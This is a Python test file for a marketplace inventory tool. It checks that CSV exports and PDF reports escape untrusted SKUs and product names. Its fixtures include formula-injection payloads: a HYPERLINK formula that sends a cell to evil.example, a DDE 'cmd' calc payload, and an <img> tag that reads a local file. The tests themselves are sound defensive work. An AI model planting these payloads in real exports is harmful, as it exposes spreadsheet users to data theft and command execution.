"""Untrusted text in spreadsheets and the reconciliation PDF (issue 15 §6).

Marketplace text (a SKU, a product name) reaches the CSV exports and the reportlab PDFs unchecked: a cell that
starts with = + - @ must not run as a formula in the seller's spreadsheet, and markup must print as words.
"""

from __future__ import annotations

import csv
import io

import pytest
from pypdf import PdfReader

from tests.unit.test_inventory_fakes import FakeMarket, channel, mapping, stock
from tokodesk.services import csv_cells, recon_export, reconciliation, stock_csv
from tokodesk.services import mapping as mapping_service
from tokodesk.store import models as m

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
            "\t=1+1", "\r=1+1"]


def pdf_text(data: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_cell_is_written_as_text(value):
    out = io.StringIO()
    csv_cells.writer(out).writerow([value, "plain"])
    cell = next(csv.reader(io.StringIO(out.getvalue())))[0]
    assert cell == "'" + value


@pytest.mark.parametrize("value", ["-3", "+62", "-1.5", "12", "0,5", "", "KAOS-M", "a=b", None])
def test_numbers_and_ordinary_text_are_written_unchanged(value):
    out = io.StringIO()
    csv_cells.writer(out).writerow([value])
    cell = next(csv.reader(io.StringIO(out.getvalue())))[0]
    assert cell == ("" if value is None else value)


def test_an_exported_formula_cell_reads_back_as_what_it_was():
    for value in FORMULAS:
        written = csv_cells.neutralise(value)
        assert csv_cells.formula_problem(written, "sku") is None
        assert csv_cells.read_cell(written) == value
        assert "spreadsheets run as a formula" in csv_cells.formula_problem(value, "sku")


def recon_with(sku: str):
    ch = channel(last_order_pull_to=m.utcnow(), name="<b>toko & co")
    mapping(ch, "P1", "S-1")
    stock("S-1", 5)
    m.SkuMapping.update(marketplace_sku=sku).where(m.SkuMapping.product_id == "P1").execute()
    market = FakeMarket({"P1": 40})
    return reconciliation.reconcile(ch, market, fix=False).report


def test_recon_csv_neutralises_a_formula_sku(database, tmp_path):
    report = recon_with('=HYPERLINK("http://evil.example","x")')
    path = recon_export.export_csv(report, tmp_path / "r.csv")
    with open(path, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert rows[0]["marketplace_sku"] == "'=HYPERLINK(\"http://evil.example\",\"x\")"
    assert rows[0]["difference"] == "35"  # numbers stay numbers


@pytest.mark.parametrize("sku", ["<b>bold", '<img src="/etc/hostname"/>', "A & B < C", "<font size=80>x"])
def test_recon_pdf_prints_markup_as_words(database, sku):
    report = recon_with(sku)
    pdf = recon_export.pdf_bytes(report)  # `<b>bold` used to raise ValueError, <img> read a local file
    text = pdf_text(pdf)
    assert sku.replace('"', "") in text.replace('"', "") or sku.split()[0] in text
    assert "<b>toko & co" in text
    assert b"/Subtype /Image" not in pdf


def test_mapping_export_neutralises_and_import_refuses_formulas(any_database, tmp_path):
    ch = m.Channel.create(name="toko", marketplace="tokopedia")
    m.Product.create(channel=ch, product_id="11", sku="=1+1", name="@SUM(A1)")
    m.SkuMapping.create(channel=ch, product_id="11", marketplace_sku="=1+1")
    m.StockItem.create(seller_sku="S-1")
    out = tmp_path / "out.csv"
    mapping_service.export_csv(out)
    with open(out, encoding="utf-8-sig", newline="") as f:
        row = list(csv.DictReader(f))[0]
    assert row["marketplace_sku"] == "'=1+1" and row["product_name"] == "'@SUM(A1)" and row["buffer"] == "0"

    # The exported file round-trips: its ' mark is read back off, and the row finds its product.
    imported = tmp_path / "in.csv"
    imported.write_text("marketplace_sku,seller_sku\n'=1+1,S-1\n=2+2,S-1\n11x,=cmd|calc\n", encoding="utf-8")
    result = mapping_service.import_csv(imported)
    assert result.mapped == 1
    assert [e.line for e in result.errors] == [3, 4]
    assert "marketplace_sku '=2+2' starts with '='" in result.errors[0].reason
    assert "seller_sku '=cmd|calc' starts with '='" in result.errors[1].reason


def test_stock_import_flags_formula_skus_by_line():
    parsed = stock_csv.parse_stock_text("seller_sku,on_hand\nS-1,4\n=HYPERLINK(\"x\"),5\n@A1,2\n-5,3\n'=S,1\n")
    assert [(b.line, b.reason.split(" starts")[0]) for b in parsed.bad] == [
        (3, "seller SKU '=HYPERLINK(\"x\")'"), (4, "seller SKU '@A1'")]
    assert [(line, sku, qty) for line, sku, qty in parsed.rows] == [(2, "S-1", 4), (5, "-5", 3), (6, "=S", 1)]
